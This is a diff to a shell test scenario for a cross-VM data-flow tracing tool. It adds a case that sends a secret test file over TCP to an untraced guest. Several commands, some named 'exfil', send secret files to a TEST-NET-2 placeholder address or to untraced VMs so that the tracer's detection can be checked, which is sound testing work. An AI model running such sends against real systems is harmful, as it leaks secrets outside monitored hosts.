@@ -4,7 +4,8 @@
 # Diffusion scenario "crossvm", guest 2 (10.0.0.2): sends its secrets to
 # vm1 over TCP (write) and UDP (sendto), and out of the traced VMs: to
 # 198.51.100.7 (TEST-NET-2, through a gateway that does not exist) with
-# sendmsg and with a connected socket's sendmmsg, and to the untraced vm3.
+# sendmsg and with a connected socket's sendmmsg, and to the untraced vm3
+# (UDP, and TCP to vm3's listener).
 # ./expected lists the exact edges.
 S=/scenario/files
 fails=0
@@ -33,6 +34,7 @@ run lt-diffuse tcp-send $S/secret-1.txt 10.0.0.1 9000
 run lt-diffuse -n exfil-sendmsg udp-send -m $S/secret-3.txt 198.51.100.7 9999
 run lt-diffuse -n exfil-connect udp-send -c $S/secret-4.txt 198.51.100.7 9998
 run lt-diffuse -n to-untraced udp-send $S/secret-5.txt 10.0.0.3 9003
+run lt-diffuse -n tcp-exfil tcp-send $S/secret-6.txt 10.0.0.3 9004
 run lt-diffuse -n vm2-shared rw read $S/shared-secret.txt /tmp/vm2-shared.out
 
 if [ $fails = 0 ]; then
